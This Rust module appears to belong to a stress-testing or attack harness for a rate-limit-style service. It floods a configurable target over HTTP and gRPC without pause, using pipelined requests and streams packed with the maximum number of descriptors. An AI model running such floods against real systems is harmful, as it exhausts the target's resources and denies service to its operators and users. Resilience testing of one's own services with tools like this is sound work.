//! As much work as one connection can request at once.

use tokio::io::AsyncWriteExt;

use super::crowd::{Attacking, crowd};
use super::floods::send;
use crate::frames::{flag, frame, kind, write_call};
use crate::peer::{acknowledge, connect, connect_h2, read_frame, request, source};
use crate::target::Target;

const CONNECTIONS: u32 = 8;
/// The most descriptors of a request.
const DESCRIPTORS: usize = 128;
const REQUESTS: usize = 64;

/// Pipelined requests with the most descriptors, without a pause.
pub(super) fn over_http(target: Target) -> Attacking {
    crowd(CONNECTIONS, move |number| async move {
        let mut stream = connect(source(number), target.http).await?;
        let one = r#"{"entries":[{"key":"k","value":"many"}]}"#;
        let descriptors = [one; DESCRIPTORS].join(",");
        let body = format!(r#"{{"domain":"d","descriptors":[{descriptors}]}}"#);
        let question = request("POST", "/json", &body).repeat(REQUESTS);
        loop {
            send(&mut stream, &question).await?;
        }
    })
}

/// The same over gRPC, in as many streams as are allowed.
pub(super) fn over_grpc(target: Target) -> Attacking {
    crowd(CONNECTIONS, move |number| async move {
        let mut stream = connect_h2(source(number), target.grpc, 1 << 20).await?;
        let mut id = 1;
        loop {
            let mut out = Vec::new();
            for _ in 0..8 {
                write_call(&mut out, id, b"many", DESCRIPTORS);
                id += 2;
            }
            // A window for all the responses of a connection.
            frame(&mut out, kind::WINDOW_UPDATE, flag::NONE, 0, &[0, 1, 0, 0]);
            stream.write_all(&out).await?;
            let mut answered = 0;
            while answered < 8 {
                let (head, payload) = read_frame(&mut stream).await?;
                acknowledge(&mut stream, head, &payload).await?;
                let ends = head.kind == kind::HEADERS && head.flags & flag::END_STREAM != 0;
                answered += u32::from(ends || head.kind == kind::RST_STREAM);
            }
        }
    })
}
